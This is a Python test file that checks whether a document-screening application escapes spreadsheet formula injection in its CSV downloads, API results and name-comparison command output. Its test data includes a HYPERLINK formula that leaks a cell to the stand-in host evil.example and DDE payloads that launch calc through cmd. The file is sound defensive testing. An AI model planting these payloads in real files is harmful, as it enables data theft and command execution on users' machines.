"""Every CSV the node writes opens in a spreadsheet as data: a cell another country (or an upload)
made to start with =, +, -, @, a tab or a carriage return is escaped with a single quote."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ncbnet.base import csvsafe
from ncbnet.base.downloads import SANDBOX
from ncbnet.cli import main
from ncbnet.conftest import sign_in
from ncbnet.screening import manifests
from ncbnet.screening.tests.test_documents import replica

LABEL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the record")'
MANIFEST = (
    'seat,document_number,=cmd|" /C calc"!A0\n'
    "=1+2,AB1000234,@SUM(1)\n"
    "-2+3,X,+33 1 23 45 67 89\n"
    '"\tx","\rB",plain\n'
)


@pytest.mark.django_db
def test_a_record_label_with_a_formula_is_escaped_in_the_downloaded_result(client, user_factory):
    replica(
        "documents",
        "KE",
        "AB1000234",
        {"number": "AB1000234", "issuing_country": "KE", "status": "stolen"},
        label=LABEL,
    )
    officer = user_factory("ncb", "officer", username="fr-officer")
    job = manifests.submit(officer, "m.csv", MANIFEST.encode(), {})
    manifests.run(job)
    sign_in(client, "fr-officer")
    response = client.get(f"/screening/manifests/{job.pk}/result.csv")
    assert response["Content-Disposition"] == f'attachment; filename="screening-{job.pk}.csv"'
    assert response["Content-Security-Policy"] == SANDBOX
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["seat", "document_number", '\'=cmd|" /C calc"!A0']
    assert rows[1][:3] == ["'=1+2", "AB1000234", "'@SUM(1)"]
    assert rows[1][4].startswith("'" + LABEL + " (documents, owner KE")
    assert rows[2][:3] == ["'-2+3", "X", "'+33 1 23 45 67 89"]
    assert rows[3][:3] == ["'\tx", "'\rB", "plain"]
    for line in rows:
        assert not any(c.startswith(csvsafe.FORMULA_PREFIXES) for c in line)


@pytest.mark.django_db
def test_the_api_result_is_escaped_too(client, user_factory):
    replica(
        "documents",
        "KE",
        "AB1000234",
        {"number": "AB1000234", "issuing_country": "KE", "status": "stolen"},
        label=LABEL,
    )
    system = user_factory("system", "system")
    from ncbnet.security import services as security

    _t, token = security.create_token(None, system, "border", scopes=["screening"])
    job = manifests.submit(system, "m.csv", MANIFEST.encode(), {})
    manifests.run(job)
    response = client.get(
        f"/api/v1/screening/manifests/{job.pk}/result", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][4].startswith("'" + LABEL)


def test_the_name_comparison_command_escapes_its_output(tmp_path, capsys):
    pairs = tmp_path / "pairs.csv"
    pairs.write_text('name1,name2,note\n=cmd|"/C calc"!A0,Ana,@x\n', encoding="utf-8")
    assert main(["screening", "compare", "--csv", str(pairs)]) == 0
    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert out[0] == ["name1", "name2", "note", "score", "match"]
    assert out[1][0] == '\'=cmd|"/C calc"!A0' and out[1][2] == "'@x"


@given(st.text())
def test_no_cell_starts_a_formula(text):
    escaped = csvsafe.cell(text)
    assert not escaped.startswith(csvsafe.FORMULA_PREFIXES)
    assert escaped in (text, "'" + text)
